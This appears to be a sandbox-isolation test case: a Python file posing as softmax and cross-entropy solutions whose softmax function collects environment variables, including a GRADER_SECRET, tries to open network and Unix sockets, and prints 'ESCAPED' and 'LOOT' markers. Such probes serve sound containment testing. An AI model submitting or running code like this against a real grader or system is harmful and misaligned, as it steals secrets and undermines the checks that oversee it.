# goal: find a secret in the environment (Python's, C's, the process's first stack page) and send it out
# family: read
# expects: 0
# afterwards: secrets
import ctypes
import os
import socket
import sys


def environment():
    yield from (f"{name}={value}" for name, value in os.environ.items())
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    for name in (b"GRADER_SECRET", b"HOME", b"PATH", b"USER"):
        if libc.getenv(name):
            yield libc.getenv(name).decode()
    for argument in (*sys.argv, *sys.orig_argv):
        if "SECRET" in argument or "MARK" in argument:
            yield argument


def send(text):
    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_UNIX, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_DGRAM), (17, socket.SOCK_RAW)):
        try:
            with socket.socket(family, kind):
                os.write(1, f"ESCAPED: a socket of family {family}\n".encode())
        except OSError:
            pass
    try:
        socket.getaddrinfo("localhost", 80)
        socket.create_connection(("127.0.0.1", 80), 0.1)
        os.write(1, b"ESCAPED: a connection\n")
    except OSError:
        pass


def softmax(a):
    found = [text for text in environment() if "SECRET" in text or "=" in text]
    os.write(1, b"ARMED\n")
    send(str(found))
    raise RuntimeError(f"LOOT {found}")


def cross_entropy(y, t):
    return None


def softmax_cross_entropy_gradient(logits, t):
    return None
